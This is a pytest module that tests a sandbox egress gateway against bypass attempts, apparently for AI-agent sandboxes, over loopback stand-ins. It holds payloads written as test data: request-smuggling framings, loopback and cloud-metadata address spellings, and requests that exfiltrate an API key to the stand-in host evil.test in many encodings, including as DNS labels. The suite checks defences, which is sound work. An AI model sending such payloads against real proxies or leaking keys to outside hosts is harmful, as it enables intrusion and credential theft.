"""The gateway's bypass classes (issue 12), each with many variants, over real sockets and a real gateway.

Every destination is a loopback stand-in reached through the gateway's upstream overrides; the
module's gateways are checked at teardown to have dialled nothing but loopback (conftest)."""

from __future__ import annotations

import base64
import binascii
import contextlib
import socket
import ssl
import struct
import time
from collections.abc import Iterator
from pathlib import Path

import h11
import pytest

from harness.gateway.credentials import SENTINEL
from harness.gateway.exfil import KnownKeys, find
from harness.gateway.process import CredentialSpec, GatewayProcess
from harness.standins.upstream import UpstreamServer

from .conftest import (
    ANTHROPIC_KEY,
    GatewayFactory,
    Reply,
    assert_dialled_loopback,
    connect,
    connect_tunnel,
    http_get,
    parse_reply,
    recv_all,
    send_raw,
)
from .test_units import dns_query

pytestmark = pytest.mark.timeout(120)

BYPASS_POLICY = """
name: bypass
deny_mode: 403-explained
loop_breaker: {threshold: 1000, window_s: 60}
dns: {enabled: true}
rules:
  - allow: api.anthropic.com
  - allow: api.openai.com
  - allow: pypi.org
    ports: [80, 443]
  - allow: files.pythonhosted.org
    ports: [80, 443]
    methods: [GET, HEAD]
    paths: ["/packages/**"]
  # Method rules make the gateway intercept evil.test:443, so it can see inside.
  - allow: evil.test
    ports: [80, 443]
    methods: [GET, HEAD, POST, PUT]
  - allow: "**.evil.test"
    ports: [80, 443]
  - allow: github.com
  - allow: localhost:*
  - allow: "[::/0]:*"
  - allow: "0.0.0.0/0:*"
  - deny: 127.0.0.0/8:*
  - deny: 169.254.0.0/16:*
  - deny: 10.0.0.0/8:*
"""


@pytest.fixture(scope="module")
def policy_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bypass") / "bypass.yaml"
    path.write_text(BYPASS_POLICY)
    return path


@pytest.fixture(scope="module")
def gw(make_gateway: GatewayFactory, policy_file: Path) -> GatewayProcess:
    return make_gateway(policy=policy_file)


@pytest.fixture(scope="module")
def port(gw: GatewayProcess) -> int:
    return gw.add_sandbox("sb-bypass")


@pytest.fixture
def fresh(upstream: UpstreamServer) -> Iterator[UpstreamServer]:
    upstream.clear()
    yield upstream


# ---- clients ------------------------------------------------------------------------------
def read_response(data: bytes, method: bytes = b"GET") -> tuple[int, dict[bytes, bytes], bytes]:
    """Status, headers and de-chunked body of the first response in data (h11 reads the framing)."""
    conn = h11.Connection(h11.CLIENT)
    conn.send(h11.Request(method=method, target=b"/", headers=[(b"host", b"x")]))
    conn.send(h11.EndOfMessage())
    conn.receive_data(data)
    conn.receive_data(b"")
    status, headers, body = 0, {}, b""
    while True:
        event = conn.next_event()
        if isinstance(event, h11.Response):
            status, headers = event.status_code, dict(event.headers)
        elif isinstance(event, h11.Data):
            body += event.data
        elif event is h11.NEED_DATA or isinstance(event, h11.EndOfMessage | h11.ConnectionClosed):
            return status, headers, body


def tls_exchange(port: int, authority: str, cadata: bytes, *pieces: bytes, pause: float = 0.0) -> bytes:
    """CONNECT authority, TLS inside (our CA), send pieces (pausing between them), read to close."""
    sock, answer = connect_tunnel(port, authority, authority)
    assert answer.startswith(b"HTTP/1.1 200"), answer
    ctx = ssl.create_default_context(cadata=cadata.decode())
    with ctx.wrap_socket(sock, server_hostname=authority.rsplit(":", 1)[0]) as tls:
        for piece in pieces:
            tls.sendall(piece)
            time.sleep(pause)
        return recv_all(tls)


def plain_exchange(port: int, *pieces: bytes, pause: float = 0.05) -> bytes:
    with connect(port) as sock:
        for piece in pieces:
            sock.sendall(piece)
            time.sleep(pause)
        return recv_all(sock)


def audit_since(gw: GatewayProcess, count: int) -> list[dict[str, object]]:
    return gw.audit_records()[count:]


# ---- 1. a key leaves only inside TLS the gateway verified, and never comes back ---------------
@pytest.fixture(scope="module")
def cleartext_gw(make_gateway: GatewayFactory, policy_file: Path, upstream: UpstreamServer) -> GatewayProcess:
    """The credentials' hosts on :443 sent to the stand-in's *plain* port: a key sent there is a key
    that left in cleartext, and the stand-in records it."""
    plain = f"127.0.0.1:{upstream.http_port}"
    overrides = {**upstream.overrides(), "api.anthropic.com:443": plain, "api.openai.com:443": plain}
    return make_gateway(policy=policy_file, upstream_overrides=overrides)


PLAIN_TO_KEY_HOST = [
    b"POST http://api.anthropic.com:443/v1/messages HTTP/1.1\r\nHost: api.anthropic.com:443\r\n"
    b"x-api-key: " + SENTINEL.encode() + b"\r\ncontent-length: 2\r\nConnection: close\r\n\r\n{}",
    b"GET http://API.Anthropic.COM.:443/v1/models HTTP/1.1\r\nHost: api.anthropic.com:443\r\nConnection: close\r\n\r\n",
    b"GET http://api.anthropic.com:443/v1/models HTTP/1.0\r\n\r\n",
    b"GET http://api.openai.com:443/v1/models HTTP/1.1\r\nHost: api.openai.com:443\r\nConnection: close\r\n"
    b"Authorization: Bearer " + SENTINEL.encode() + b"\r\n\r\n",
]
PLAIN_INSIDE_CONNECT = [
    ("api.anthropic.com:443", b"GET /v1/models HTTP/1.1\r\nHost: api.anthropic.com:443\r\nConnection: close\r\n\r\n"),
    (
        "api.anthropic.com:443",
        b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com:443\r\ncontent-length: 2\r\n"
        b"Connection: close\r\n\r\n{}",
    ),
    ("api.openai.com:443", b"GET /v1/models HTTP/1.0\r\nHost: api.openai.com:443\r\n\r\n"),
]


def plain_inside_connect(port: int, authority: str, inner: bytes) -> Reply:
    sock, answer = connect_tunnel(port, authority)
    assert answer.startswith(b"HTTP/1.1 200")
    with sock:
        sock.sendall(inner)
        return parse_reply(recv_all(sock))


@pytest.mark.parametrize("request_bytes", PLAIN_TO_KEY_HOST)
def test_plain_http_to_a_key_host_goes_on_as_verified_https(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, request_bytes: bytes
) -> None:
    """`POST http://api.anthropic.com:443/...` gets its key, but on a TLS connection the gateway verified."""
    reply = parse_reply(send_raw(port, request_bytes))
    assert reply.status == 200, reply
    [got] = fresh.received()
    assert got.scheme == "https" and got.sni in ("api.anthropic.com", "api.openai.com") and got.credential == "ok"
    assert ANTHROPIC_KEY.encode() not in reply.raw
    record = gw.audit_records()[-1]
    assert record["scheme"] == "http" and "sent upstream as https to port 443" in str(record["reason"])


@pytest.mark.parametrize(("authority", "inner"), PLAIN_INSIDE_CONNECT)
def test_plain_http_inside_a_key_hosts_connect_goes_on_as_verified_https(
    port: int, fresh: UpstreamServer, authority: str, inner: bytes
) -> None:
    assert plain_inside_connect(port, authority, inner).status == 200
    [got] = fresh.received()
    assert (got.scheme, got.credential) == ("https", "ok")


@pytest.mark.parametrize("request_bytes", PLAIN_TO_KEY_HOST)
def test_no_key_in_cleartext_even_when_the_upstream_is_plain(
    cleartext_gw: GatewayProcess, fresh: UpstreamServer, request_bytes: bytes
) -> None:
    """The key's host:443 is (mis)routed to a plain-http server: TLS to it fails, and nothing is sent."""
    port = cleartext_gw.add_sandbox("sb-cleartext")
    assert parse_reply(send_raw(port, request_bytes)).status == 502
    assert fresh.received() == []  # not one HTTP request reached the plain port, key or not


@pytest.mark.parametrize(("authority", "inner"), PLAIN_INSIDE_CONNECT)
def test_no_key_in_cleartext_inside_connect_even_when_the_upstream_is_plain(
    cleartext_gw: GatewayProcess, fresh: UpstreamServer, authority: str, inner: bytes
) -> None:
    port = cleartext_gw.add_sandbox("sb-cleartext")
    assert plain_inside_connect(port, authority, inner).status == 502
    assert fresh.received() == []


def test_a_key_bound_to_port_80_goes_on_as_https_to_443(
    make_gateway: GatewayFactory, tmp_path: Path, fresh: UpstreamServer
) -> None:
    """What the isolation and retry-403 scenarios do for busybox guests, which have no usable TLS client:
    plain http to the model API on :80. The key still travels only inside verified TLS, to :443."""
    policy = tmp_path / "p80.yaml"
    policy.write_text("rules:\n  - allow: api.anthropic.com\n    ports: [80, 443]\n")
    gw = make_gateway(
        policy=policy,
        credentials=[
            CredentialSpec("anthropic-http", "api.anthropic.com", "x-api-key", port=80, env="BR_TEST_ANTHROPIC_KEY")
        ],
    )
    port = gw.add_sandbox("sb-80")
    reply = http_get(port, "http://api.anthropic.com/v1/models", extra=f"x-api-key: {SENTINEL}\r\n")
    assert reply.status == 200
    [got] = fresh.received()
    assert (got.scheme, got.sni, got.credential, got.host) == ("https", "api.anthropic.com", "ok", "api.anthropic.com")


@pytest.mark.parametrize("method", [b"TRACE", b"TRACK", b"DEBUG", b"PROPFIND", b"X-ECHO"])
def test_no_key_into_a_method_that_may_echo(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, method: bytes
) -> None:
    request = method + b" /v1/x HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n"
    status, _, body = read_response(tls_exchange(port, "api.anthropic.com:443", gw.ca_cert_pem(), request))
    assert status == 403 and b"credential-method" in body
    assert fresh.received() == []


@pytest.mark.parametrize("encode", ["raw", "base64", "hex"])
@pytest.mark.parametrize("where", ["body", "header"])
@pytest.mark.parametrize("chunk", [0, 7, 64])
def test_an_echoed_key_is_scrubbed_from_the_answer(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, encode: str, where: str, chunk: int
) -> None:
    """/echo hands back the request the stand-in received, key included (as TRACE would), in one
    piece or in chunks that split the key; the sandbox must get none of it back."""
    request = (
        f"GET /echo?encode={encode}&where={where}&chunk={chunk} HTTP/1.1\r\nHost: api.anthropic.com\r\n"
        f"x-api-key: {SENTINEL}\r\nConnection: close\r\n\r\n"
    ).encode()
    raw = tls_exchange(port, "api.anthropic.com:443", gw.ca_cert_pem(), request)
    status, headers, body = read_response(raw)
    assert status == 200
    assert fresh.received()[-1].credential == "ok"  # the key did reach its own host
    forms = KnownKeys([("anthropic", ANTHROPIC_KEY, ("api.anthropic.com", 443))]).forms
    seen = b"\n".join([body, *headers.values()])
    assert find(forms, seen) is None, seen
    assert b"*" * 20 in seen  # overwritten in place, same length
    if where == "body" and encode == "raw":
        assert b"x-api-key: " in body and SENTINEL.encode() not in body


# ---- 2. request smuggling: an ambiguous message is refused, never forwarded -----------------
SMUGGLED = b"0\r\n\r\nDELETE /admin HTTP/1.1\r\nHost: files.pythonhosted.org\r\n\r\n"
FRAMINGS = [
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding:  chunked\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding: Chunked\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding: CHUNKED\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding:\tchunked\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\t\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding: x\r\n\tchunked\r\n",
    b"Transfer-Encoding:\r\n chunked\r\n",
    b"Content-Length: 5\r\nContent-Length: 5\r\n",
    b"Content-Length: 5\r\nContent-Length: 50\r\n",
    b"Content-Length: 5, 5\r\n",
    b"Content-Length: 5,50\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: gzip, chunked\r\n",
    b"Transfer-Encoding: chunked, identity\r\n",
    b"Transfer-Encoding: identity\r\n",
    b"Transfer-Encoding: xchunked\r\n",
    b"Content_Length: 5\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer_Encoding: chunked\r\nContent-Length: 5\r\n",
    b"Content-Length: 5\nTransfer-Encoding: chunked\n",
]


@pytest.mark.parametrize("framing", FRAMINGS)
def test_ambiguous_framing_is_refused_in_the_clear(port: int, fresh: UpstreamServer, framing: bytes) -> None:
    head = b"GET http://files.pythonhosted.org/packages/x HTTP/1.1\r\nHost: files.pythonhosted.org\r\n" + framing
    reply = parse_reply(send_raw(port, head + b"\r\n" + SMUGGLED))  # read to EOF: the gateway closed
    assert reply.status == 400 and "framing" in reply.body.decode(), reply
    assert fresh.received() == []


@pytest.mark.parametrize("framing", FRAMINGS[::3])
def test_ambiguous_framing_is_refused_inside_tls(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, framing: bytes
) -> None:
    head = b"POST /packages/x HTTP/1.1\r\nHost: files.pythonhosted.org\r\n" + framing
    raw = tls_exchange(port, "files.pythonhosted.org:443", gw.ca_cert_pem(), head + b"\r\n" + SMUGGLED)
    assert parse_reply(raw).status == 400
    assert fresh.received() == []


def test_transfer_encoding_in_http_1_0_is_refused(port: int, fresh: UpstreamServer) -> None:
    head = b"POST http://pypi.org/upload HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n"
    assert parse_reply(send_raw(port, head + b"5\r\nhello\r\n0\r\n\r\n")).status == 400
    assert fresh.received() == []


def test_plain_framing_still_works(port: int, fresh: UpstreamServer) -> None:
    for framing, body in (
        (b"Content-Length: 5\r\n", b"hello"),
        (b"Transfer-Encoding: chunked\r\n", b"5\r\nhello\r\n0\r\n\r\n"),
        (b"transfer-encoding:  Chunked \r\n", b"5\r\nhello\r\n0\r\n\r\n"),
    ):
        head = b"POST http://pypi.org/upload HTTP/1.1\r\nHost: pypi.org\r\nConnection: close\r\n" + framing
        assert parse_reply(send_raw(port, head + b"\r\n" + body)).status == 200
    assert [r.body_len for r in fresh.received()] == [5, 5, 5]
    # The upstream saw one framing header per request, never two.
    for got in fresh.received():
        assert not ("content-length" in got.headers and "transfer-encoding" in got.headers)


def test_connection_header_cannot_strip_framing_or_host(port: int, fresh: UpstreamServer) -> None:
    head = (
        b"POST http://pypi.org/upload HTTP/1.1\r\nHost: pypi.org\r\nConnection: content-length, host, close\r\n"
        b"Content-Length: 5\r\n\r\nhello"
    )
    assert parse_reply(send_raw(port, head)).status == 200
    [got] = fresh.received()
    assert got.body_len == 5 and got.host == "pypi.org"


def test_an_answer_framed_two_ways_is_not_relayed(port: int, fresh: UpstreamServer) -> None:
    reply = parse_reply(send_raw(port, b"GET http://pypi.org/both-framing HTTP/1.1\r\nHost: pypi.org\r\n\r\n"))
    assert reply.status == 502 and b"Transfer-Encoding and Content-Length" in reply.body


# ---- 3. the path checked is the path sent: fragments never go upstream ----------------------
@pytest.mark.parametrize(
    ("target", "status", "sent"),
    [
        ("/packages/x#/../../admin", 200, "/packages/x"),
        ("/packages/x#", 200, "/packages/x"),
        ("/packages/x?q=1#/../../admin", 200, "/packages/x?q=1"),
        ("/packages/x#?q=1", 200, "/packages/x"),
        ("/packages/./y//z", 200, "/packages/y/z"),
        ("/packages/%78", 200, "/packages/x"),
        ("/packages/x%23/../../admin", 403, None),
        ("/packages/%2e%2e/admin", 403, None),
        ("/packages/..;/admin", 400, None),
        ("/packages/.;x/../../admin", 400, None),
    ],
)
@pytest.mark.parametrize("inside_tls", [False, True])
def test_the_path_checked_is_the_path_sent(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, target: str, status: int, sent: str | None, inside_tls: bool
) -> None:
    before = len(gw.audit_records())
    if inside_tls:
        request = f"GET {target} HTTP/1.1\r\nHost: files.pythonhosted.org\r\nConnection: close\r\n\r\n".encode()
        reply = parse_reply(tls_exchange(port, "files.pythonhosted.org:443", gw.ca_cert_pem(), request))
    else:
        reply = http_get(port, f"http://files.pythonhosted.org{target}")
    assert reply.status == status, reply
    if sent is None:
        assert fresh.received() == []
        return
    [got] = fresh.received()
    assert got.target == sent
    [record] = [r for r in audit_since(gw, before) if r["event"] == "request"]
    assert record["path"] == sent.split("?")[0]  # the audit log names the path that was sent


# ---- 4. addresses that mean loopback or metadata -------------------------------------------
@pytest.fixture
def canary() -> Iterator[tuple[int, list[socket.socket]]]:
    """Listeners on the host's loopback (both families, one port) that must never be reached."""
    v4 = socket.create_server(("127.0.0.1", 0))
    socks = [v4]
    if socket.has_ipv6:
        with contextlib.suppress(OSError):
            socks.append(socket.create_server(("::1", v4.getsockname()[1]), family=socket.AF_INET6))
    for sock in socks:
        sock.setblocking(False)
    yield v4.getsockname()[1], socks
    for sock in socks:
        sock.close()


def assert_untouched(socks: list[socket.socket]) -> None:
    for sock in socks:
        with pytest.raises(BlockingIOError):
            sock.accept()


LOOPBACK_FORMS = [
    "127.0.0.1",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[::FFFF:7F00:0001]",
    "[0:0:0:0:0:ffff:7f00:1]",
    "[0000:0000:0000:0000:0000:ffff:7f00:0001]",
    "[::ffff:127.1.2.3]",
    "0.0.0.0",
    "[::]",
    "[::0]",
    "[0:0:0:0:0:0:0:0]",
    "[::ffff:0.0.0.0]",
    "[::ffff:0:0]",
    "[::1]",
    "[0:0:0:0:0:0:0:1]",
]
METADATA_AND_PRIVATE = ["[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "169.254.169.254", "[::ffff:10.0.0.5]"]
REFUSED_FORMS = ["[::127.0.0.1]", "[::7f00:1]", "[64:ff9b::7f00:1]", "[64:ff9b::a9fe:a9fe]", "[fe80::1%25lo]", "127.1"]


@pytest.mark.parametrize("host", LOOPBACK_FORMS + METADATA_AND_PRIVATE)
def test_every_spelling_of_a_denied_address_is_denied(
    gw: GatewayProcess, port: int, canary: tuple[int, list[socket.socket]], host: str
) -> None:
    canary_port, socks = canary
    reply = http_get(port, f"http://{host}:{canary_port}/")
    assert reply.status == 403, (host, reply)
    sock, answer = connect_tunnel(port, f"{host}:{canary_port}")
    sock.close()
    assert parse_reply(answer).status == 403, (host, answer)
    assert_untouched(socks)


@pytest.mark.parametrize("host", REFUSED_FORMS)
def test_ambiguous_address_forms_are_refused(port: int, canary: tuple[int, list[socket.socket]], host: str) -> None:
    canary_port, socks = canary
    assert http_get(port, f"http://{host}:{canary_port}/", host=f"{host}:{canary_port}").status == 400
    sock, answer = connect_tunnel(port, f"{host}:{canary_port}")
    sock.close()
    assert parse_reply(answer).status == 400
    assert_untouched(socks)


@pytest.mark.parametrize("host", ["0.0.0.0", "[::]", "[::ffff:127.0.0.1]", "[::ffff:0.0.0.0]", "[::1]", "127.0.0.1"])
def test_open_preset_never_reaches_the_hosts_loopback(make_gateway: GatewayFactory, host: str) -> None:
    gw = make_gateway(policy="open")
    port = gw.add_sandbox("sb-open")
    for target in (80, 443):
        assert http_get(port, f"http://{host}:{target}/").status == 403
        sock, answer = connect_tunnel(port, f"{host}:{target}")
        sock.close()
        assert parse_reply(answer).status == 403
    assert all(r.get("upstream_addr") is None for r in gw.audit_records())


def test_a_name_that_resolves_to_loopback_is_never_dialled(
    gw: GatewayProcess, port: int, canary: tuple[int, list[socket.socket]]
) -> None:
    canary_port, socks = canary
    reply = http_get(port, f"http://localhost:{canary_port}/")
    assert reply.status == 502 and b"protected" in reply.body
    sock, answer = connect_tunnel(port, f"LocalHost.:{canary_port}")
    sock.close()
    assert parse_reply(answer).status == 502
    assert_untouched(socks)


# ---- 6. false denials of valid clients -------------------------------------------------------
def test_absolute_form_http_1_0_without_host(port: int, fresh: UpstreamServer) -> None:
    for request in (
        b"GET http://pypi.org/simple/ HTTP/1.0\r\n\r\n",
        b"GET http://pypi.org:80/simple/?a=b HTTP/1.0\r\nUser-Agent: old\r\n\r\n",
        b"POST http://pypi.org/upload HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc",
    ):
        reply = parse_reply(send_raw(port, request))
        assert reply.status == 200, reply
    assert [r.host for r in fresh.received()] == ["pypi.org"] * 3


@pytest.mark.parametrize(
    "pieces",
    [
        [b"CONN", b"ECT pypi.org:80 HTTP/1.1\r\n\r\n"],
        [b"C", b"ONNECT pypi.org:80 HTTP/1.1\r\n\r\n"],
        [b"CONNECT pypi", b".org:80 HTTP/1.1\r\n\r\n"],
        [b"CONNECT pypi.org:80 HTTP/1.1\r\n", b"\r\n"],
        [b"CONNECT pypi.org:80 HTTP/1.1\r", b"\n\r\n"],
        [b"CONNECT pypi.org:80 HTTP/1.1\r\nUser-Agent: x\r\n", b"\r\n"],
        [b"CONNECT ", b"pypi.org:80 ", b"HTTP/1.1\r\n", b"\r\n"],
        [b"CONNECT pypi.org:80 HTTP/1.1\n\n"],
    ],
)
def test_hostless_connect_in_pieces(port: int, fresh: UpstreamServer, pieces: list[bytes]) -> None:
    with connect(port) as sock:
        for piece in pieces:
            sock.sendall(piece)
            time.sleep(0.05)
        answer = sock.recv(65536)
        assert answer == b"HTTP/1.1 200 Connection established\r\n\r\n"
        sock.sendall(b"GET /simple/ HTTP/1.1\r\nHost: pypi.org\r\nConnection: close\r\n\r\n")
        assert parse_reply(recv_all(sock)).status == 200
    assert [r.target for r in fresh.received()] == ["/simple/"]


# ---- 7. the loop breaker says what it counted -----------------------------------------------
def test_loop_breaker_says_what_it_counted(make_gateway: GatewayFactory) -> None:
    gw = make_gateway(loop_threshold=2, loop_window_s=30.0)
    port = gw.add_sandbox("sb-loop-msg")
    for _ in range(3):
        sock, answer = connect_tunnel(port, "example.com:443")
        sock.close()
    message = str(parse_reply(answer).json()["message"])
    assert "every CONNECT to example.com:443" in message and "counts the host and port" in message
    assert "this exact request" not in message
    replies = [http_get(port, "http://example.com/again") for _ in range(3)]
    assert replies[-1].status == 429
    assert "this exact request (GET http://example.com:80/again)" in str(replies[-1].json()["message"])


# ---- 8. known-key exfiltration ---------------------------------------------------------------
KEY = ANTHROPIC_KEY.encode()


def encodings() -> list[tuple[str, bytes]]:
    """The key in every encoding the gateway knows, inside longer encoded blobs at every alignment."""
    out = [("raw", KEY), ("hex", binascii.hexlify(KEY)), ("HEX", binascii.hexlify(KEY).upper())]
    out += [
        ("url", "".join(f"%{b:02X}" for b in KEY).encode()),
        ("url-lower", "".join(f"%{b:02x}" for b in KEY).encode()),
    ]
    for prefix in (b"", b"k=", b"key="):
        out.append((f"base64+{len(prefix)}", base64.b64encode(prefix + KEY + b"\n")))
        out.append((f"base64url+{len(prefix)}", base64.urlsafe_b64encode(prefix + KEY)))
    for prefix in (b"", b"a", b"ab", b"abc", b"abcd"):
        out.append((f"base32+{len(prefix)}", base64.b32encode(prefix + KEY)))
    return out


ENCODINGS = encodings()


def exfil_request(place: str, value: bytes, host: str = "evil.test") -> bytes:
    if place == "query":
        return b"GET /collect?d=" + value + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n"
    if place == "header":
        return (
            b"GET /collect HTTP/1.1\r\nHost: "
            + host.encode()
            + b"\r\nX-Data: "
            + value
            + b"\r\nConnection: close\r\n\r\n"
        )
    body = b"data=" + value + b"&more=1"
    return (
        b"POST /collect HTTP/1.1\r\nHost: "
        + host.encode()
        + b"\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body)
    ) + body


def assert_exfil_audited(gw: GatewayProcess, before: int) -> None:
    records = audit_since(gw, before)
    flagged = [r for r in records if r["event"] == "credential_exfiltration"]
    assert flagged and flagged[-1]["credential"] == "anthropic" and flagged[-1]["decision"] == "deny", records
    assert flagged[-1]["rule"] == "credential-exfiltration"


@pytest.mark.parametrize(("name", "value"), ENCODINGS, ids=[n for n, _ in ENCODINGS])
@pytest.mark.parametrize("place", ["query", "header", "body"])
def test_a_key_toward_another_host_is_denied_in_the_clear(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, name: str, value: bytes, place: str
) -> None:
    before = len(gw.audit_records())
    request = exfil_request(place, value).replace(b"/collect", b"http://evil.test/collect", 1)
    reply = parse_reply(send_raw(port, request))
    assert reply.status == 403, (name, reply)
    assert fresh.received() == []
    assert_exfil_audited(gw, before)


@pytest.mark.parametrize(("name", "value"), ENCODINGS[::2], ids=[n for n, _ in ENCODINGS[::2]])
@pytest.mark.parametrize("place", ["query", "header", "body"])
def test_a_key_toward_another_host_is_denied_inside_tls(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, name: str, value: bytes, place: str
) -> None:
    before = len(gw.audit_records())
    raw = tls_exchange(port, "evil.test:443", gw.ca_cert_pem(), exfil_request(place, value))
    assert parse_reply(raw).status == 403, name
    assert fresh.received() == []
    assert_exfil_audited(gw, before)


@pytest.mark.parametrize("split", [1, 10, len(KEY) // 2, len(KEY) - 1])
@pytest.mark.parametrize("chunked", [False, True])
def test_a_key_split_across_writes_of_a_body_never_leaves(
    gw: GatewayProcess, port: int, fresh: UpstreamServer, split: int, chunked: bool
) -> None:
    """The body arrives in two writes that cut the key; the stand-in must not get its first part."""
    first, second = b"data=" + KEY[:split], KEY[split:] + b"&x=1"
    if chunked:
        framing = b"Transfer-Encoding: chunked\r\n"
        first, second = b"%x\r\n%s\r\n" % (len(first), first), b"%x\r\n%s\r\n0\r\n\r\n" % (len(second), second)
    else:
        framing = b"Content-Length: %d\r\n" % (len(first) + len(second))
    head = b"POST /upload HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n" + framing + b"\r\n"
    before = len(gw.audit_records())
    raw = tls_exchange(port, "evil.test:443", gw.ca_cert_pem(), head + first, second, pause=0.2)
    assert parse_reply(raw).status == 403
    assert fresh.received() == []
    assert_exfil_audited(gw, before)


def test_a_key_in_a_host_name_is_denied(gw: GatewayProcess, port: int, fresh: UpstreamServer) -> None:
    hexkey = binascii.hexlify(KEY).decode()
    b32 = base64.b32encode(KEY).decode().rstrip("=").lower()
    names = [f"{hexkey[:50]}.{hexkey[50:]}.evil.test", f"{b32[:40]}.{b32[40:]}.evil.test"]
    for name in names:
        before = len(gw.audit_records())
        assert http_get(port, f"http://{name}/").status == 403
        assert_exfil_audited(gw, before)
        before = len(gw.audit_records())
        sock, answer = connect_tunnel(port, f"{name}:443")
        sock.close()
        assert parse_reply(answer).status == 403
        assert_exfil_audited(gw, before)
    assert fresh.received() == []
    dns_port = gw.dns_port("sb-bypass")
    assert dns_port is not None
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(5)
        udp.sendto(dns_query(names[0]), ("127.0.0.1", dns_port))
        rcode = struct.unpack("!H", udp.recv(4096)[2:4])[0] & 0xF
    assert rcode == 5  # REFUSED: resolving it would hand the key to whoever answers for evil.test
    assert gw.audit_records()[-1]["reason"] == "credential_exfiltration"


def test_a_key_to_its_own_host_inside_verified_tls_is_not_exfiltration(
    gw: GatewayProcess, port: int, fresh: UpstreamServer
) -> None:
    request = (
        f"GET /v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: {ANTHROPIC_KEY}\r\nConnection: close\r\n\r\n"
    )
    raw = tls_exchange(port, "api.anthropic.com:443", gw.ca_cert_pem(), request.encode())
    assert parse_reply(raw).status == 200
    assert fresh.received()[-1].credential == "ok"


def test_a_blind_tunnel_is_not_inspected(port: int, fresh: UpstreamServer) -> None:
    """The design limit README states: inside a tunnel the gateway does not decrypt, it sees nothing."""
    sock, answer = connect_tunnel(port, "github.com:443")
    assert answer.startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=str(fresh.ca_file))
    with ctx.wrap_socket(sock, server_hostname="github.com") as tls:
        tls.sendall(b"GET /?d=" + KEY + b" HTTP/1.1\r\nHost: github.com\r\nConnection: close\r\n\r\n")
        assert parse_reply(recv_all(tls)).status == 200
    assert ANTHROPIC_KEY in fresh.received()[-1].target


def test_no_form_of_a_key_reaches_the_audit_log(gw: GatewayProcess, port: int) -> None:
    """After every exfiltration attempt above (keys in paths, queries and names): none in the log."""
    http_get(port, "http://evil.test/p/" + binascii.hexlify(KEY).decode())
    data = gw.audit_path.read_bytes()
    forms = KnownKeys([("anthropic", ANTHROPIC_KEY, ("api.anthropic.com", 443))]).forms
    assert find(forms, data) is None
    assert gw.stats()["credential_exfiltration"] > 0
    assert_dialled_loopback(gw)
